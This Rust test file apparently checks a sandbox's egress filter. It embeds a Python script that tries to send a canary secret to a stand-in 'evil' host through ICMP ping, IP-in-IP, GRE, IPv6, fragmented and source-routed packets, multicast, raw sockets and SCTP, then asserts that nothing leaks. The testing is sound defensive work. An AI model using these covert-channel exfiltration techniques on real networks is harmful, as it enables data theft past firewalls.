//! EG15: everything that is neither TCP nor DNS: ICMP, tunnels, other transports, IPv6, multicast,
//! fragments, source routes. Dropped; only TCP and port 53 exist.

use std::time::Duration;

use den_testkit::Site;

use crate::world::{World, answered, canary};

#[test]
fn only_tcp_and_names_leave() {
    let world = World::new();
    world.add("c", "open", &[]);
    let secret = canary();
    let seen = world.run(
        "c",
        &format!(
            "w = wire()\n\
             secret = b'{secret}' * 3\n\
             sent = 0\n\
             def go(data, kind=0x0800, to=GATE_MAC):\n\
             \x20global sent\n\
             \x20try: w.send(frame(data, kind, to)); sent += 1\n\
             \x20except OSError as e: say(end=how(e))\n\
             echo = b'\\x08\\0\\0\\0\\0\\x01\\0\\x01' + secret\n\
             echo = echo[:2] + struct.pack('>H', checksum(echo)) + echo[4:]\n\
             for to in ('{{evil}}', '{{good}}'):\n\
             \x20go(packet(1, to, echo))                                         # ping\n\
             \x20go(packet(4, to, packet(17, to, b'\\0' * 8 + secret)))           # IP in IP\n\
             \x20go(packet(41, to, b'\\x60' + b'\\0' * 39 + secret))              # IPv6 in IP\n\
             \x20go(packet(47, to, b'\\0\\0\\x08\\0' + packet(1, to, echo)))        # GRE\n\
             \x20for protocol in (2, 33, 50, 51, 89, 112, 132, 136, 253): go(packet(protocol, to, secret))\n\
             \x20go(udp(to, 1234, secret)); go(udp(to, 123, secret)); go(udp(to, 500, secret)); go(udp(to, 51820, secret))\n\
             \x20go(packet(1, to, echo[:8], fragment=0x2000, number=9)); go(packet(1, to, echo[8:], fragment=1, number=9))\n\
             \x20whole = udp(to, 1234, secret)[20:]\n\
             \x20go(packet(17, to, whole[:16], fragment=0x2000, number=10)); go(packet(17, to, whole[8:], fragment=1, number=10))\n\
             \x20loose = bytes([0x83, 7, 4]) + socket.inet_aton(to) + b'\\0'\n\
             \x20p = packet(17, to, loose + whole); go(bytes([0x47]) + p[1:])\n\
             for to in ('224.0.0.1', '224.0.0.251', '239.1.2.3', '255.255.255.255', '10.0.0.255'): go(udp(to, 5353, secret), to=b'\\xff' * 6)\n\
             router = b'\\x60\\0\\0\\0\\0\\x10\\x3a\\xff' + b'\\xfe\\x80' + b'\\0' * 13 + b'\\x02' + b'\\xff\\x02' + b'\\0' * 13 + b'\\x01' + b'\\x86\\0\\0\\0' + b'\\0' * 12\n\
             go(router, 0x86dd, b'\\x33\\x33\\0\\0\\0\\x01')\n\
             go(router[:40] + b'\\x88\\0' + b'\\0' * 14, 0x86dd)\n\
             go(b'\\x60\\0\\0\\0' + struct.pack('>H', len(secret)) + b'\\x11\\x40' + b'\\x20\\x01' + b'\\0' * 14 + b'\\x20\\x01' + b'\\0' * 14 + secret, 0x86dd)\n\
             for kind in (0x88cc, 0x8863, 0x8864, 0x88b5, 0x0004): go(secret, kind)\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(echo, ('{{evil}}', 0))\n\
             say(ping=os.system('ping -c 2 -i 0.2 -W 1 {{evil}} > /dev/null 2>&1') >> 8)\n\
             found = []\n\
             for family in (socket.AF_INET6,):\n\
             \x20try:\n\
             \x20\x20s6 = socket.socket(family, socket.SOCK_STREAM); s6.settimeout(2); s6.connect(('2001:db8::1', 80)); found.append('open')\n\
             \x20except OSError as e: found.append(how(e))\n\
             try: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('{{evil}}', 80)); found.append('sctp')\n\
             except OSError: pass\n\
             say(sent=sent, found=found)"
        ),
    );
    let last = seen.last().expect("a line");
    assert!(last["sent"].as_u64().is_some_and(|sent| sent > 50), "{seen:?}");
    assert_ne!(last["found"][0], "open", "{last}");
    assert_eq!(seen[seen.len() - 2]["ping"], 1, "no echo comes back: {seen:?}");
    std::thread::sleep(Duration::from_millis(300));
    world.untouched(Site::Evil);
    world.untouched(Site::Good);
    let strange: Vec<_> =
        world.net.packets().into_iter().filter(|packet| ![6, 17].contains(&packet.protocol)).collect();
    assert!(strange.iter().all(|packet| !String::from_utf8_lossy(&packet.bytes).contains(&secret)), "{strange:?}");
    world.no_leak(&secret);
    world.dropped("c", "no_flow");
    // The computer is well, and what may leave leaves.
    answered(&world.run("c", "say(**get('{good}', 'good.test'))")[0]);
    assert!(world.net.packets_to(world.net.at(Site::Good)).iter().all(|packet| packet.protocol == 6));
}
